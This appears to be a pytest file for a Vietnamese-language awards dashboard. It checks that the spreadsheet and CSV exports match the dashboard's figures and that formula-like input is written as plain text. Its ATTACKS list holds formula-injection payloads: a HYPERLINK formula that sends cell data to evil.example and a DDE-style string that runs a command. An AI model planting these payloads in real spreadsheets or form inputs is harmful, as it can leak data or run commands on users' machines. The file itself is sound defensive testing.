"""The dashboard's tables as .xlsx and CSV: the same numbers as the dashboard, readable by LibreOffice."""
from __future__ import annotations

import csv
import io
import shutil
import subprocess
from pathlib import Path

import pytest
from openpyxl import load_workbook
from test_dashboard import approved_sums, board_for

from workflow_helpers import login


def test_the_xlsx_holds_the_dashboards_numbers(client, env):
    from workflows import demo_year
    from workflows.fields import FIELD_LABELS, METRICS

    demo_year.generate(60)
    login(client, "congan")
    r = client.get("/dashboard/2026/export.xlsx")
    assert r.status_code == 200 and r.data[:2] == b"PK"
    wb = load_workbook(io.BytesIO(r.data))
    assert wb.sheetnames == ["Tổng hợp", "Đơn vị", "Khen thưởng", "Đề xuất", "Quá hạn"]
    official = {row[0]: row[1] for row in wb["Tổng hợp"].iter_rows(min_row=2, values_only=True) if row[0]}
    assert {k: official[FIELD_LABELS[k]] for k in METRICS} == approved_sums()
    units = list(wb["Đơn vị"].iter_rows(min_row=2, values_only=True))
    assert len(units) == 60 and sum(u[4] == "Có" for u in units) == 24
    assert len(list(wb["Khen thưởng"].iter_rows(min_row=2))) == len(board_for("congan").awards) == 24


CALC = Path("/usr/lib/libreoffice/program/libsclo.so")


@pytest.mark.skipif(not shutil.which("soffice") or not CALC.exists(),
                    reason="LibreOffice Calc is not installed (apt-get install libreoffice-calc-nogui)")
def test_libreoffice_opens_the_xlsx_with_the_same_numbers(sqlite_env, tmp_path):
    from webapp import create_app
    from workflows import demo_year
    from workflows.fields import FIELD_LABELS, METRICS

    demo_year.generate(30)
    client = create_app({"TESTING": True}).test_client()
    login(client, "congan")
    (tmp_path / "t.xlsx").write_bytes(client.get("/dashboard/2026/export.xlsx").data)
    subprocess.run(["soffice", f"-env:UserInstallation=file://{tmp_path}/profile", "--headless", "--convert-to",
                    "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,1",
                    "--outdir", str(tmp_path), str(tmp_path / "t.xlsx")], check=True, timeout=120,
                   capture_output=True)
    rows = list(csv.reader(io.StringIO((tmp_path / "t-Tổng hợp.csv").read_text("utf-8"))))
    official = {row[0]: row[1] for row in rows[1:] if row and row[0]}
    assert {k: int(official[FIELD_LABELS[k]]) for k in METRICS} == approved_sums()


def test_the_csv_is_utf8_with_a_bom_and_one_line_per_unit(client, env):
    from workflows import demo_year

    demo_year.generate(12)
    login(client, "vhxh")
    r = client.get("/dashboard/2026/export.csv?table=units")
    assert r.status_code == 200 and r.data.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(r.data.decode("utf-8-sig"))))
    assert rows[0][:2] == ["Xã", "Đơn vị"] and len(rows) == 13
    assert client.get("/dashboard/2026/export.csv?table=passwords").status_code == 422


ATTACKS = ['=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")', "@SUM(1+1)*cmd|' /C calc'!A0",
           "+1+1", "-2+3", "\t=1+2", "\r=1+2"]


def _clerk_typed_formulas() -> tuple[str, list[str]]:
    """What clerks typed: a report number and awardees' names that look like formulas."""
    from sqlalchemy import select

    from storage.db import write_session
    from storage.models import Dossier, Nominee, Report

    with write_session() as s:
        report = s.scalars(select(Report).join(Dossier).where(Dossier.state == "approved",
                                                              Report.status == "done")).first()
        report.fields = {**(report.current_fields or {}), "number": ATTACKS[0]}
        for c in report.corrections:
            c.fields = {**c.fields, "number": ATTACKS[0]}
        names = []
        nominees = s.scalars(select(Nominee).join(Dossier).where(Dossier.state == "approved",
                                                                 Nominee.verdict == "accepted")).all()
        for n, attack in zip(nominees, ATTACKS[1:], strict=False):
            n.name = attack
            names.append(attack)
        return ATTACKS[0], names


def test_formula_like_text_is_written_as_text_in_xlsx_and_csv_with_vietnamese_labels(client, env):
    """Issue 14 #4 (formula injection) and issue 11 (Vietnamese labels, a print setup)."""
    from workflows import demo_year

    demo_year.generate(12)
    number, names = _clerk_typed_formulas()
    login(client, "congan")
    wb = load_workbook(io.BytesIO(client.get("/dashboard/2026/export.xlsx").data))
    cells = {c.value: c for ws in wb for row in ws.iter_rows() for c in row if isinstance(c.value, str)}
    for text in [number] + names:
        assert text in cells, text
        assert cells[text].data_type == "s", f"{text!r} is written as a formula"
    kinds = {row[2] for row in wb["Đơn vị"].iter_rows(min_row=2, values_only=True)}
    assert kinds and not kinds & {"school", "hamlet", "enterprise", "agency", "organisation"}, kinds
    assert kinds & {"Trường học", "Xóm, khu dân cư"}
    for ws in wb:
        assert ws.page_setup.orientation == "landscape" and str(ws.page_setup.paperSize) == "9"   # A4
        assert ws.sheet_properties.pageSetUpPr.fitToPage and ws.page_setup.fitToWidth == 1

    for table in ("units", "awards"):
        rows = list(csv.reader(io.StringIO(client.get(f"/dashboard/2026/export.csv?table={table}")
                                           .data.decode("utf-8-sig"))))
        values = [v for row in rows for v in row]
        assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in values), table
        if table == "units":
            assert "'" + number in values and not {r[2] for r in rows[1:]} & {"school", "hamlet"}
        else:
            assert all("'" + n in values for n in names)
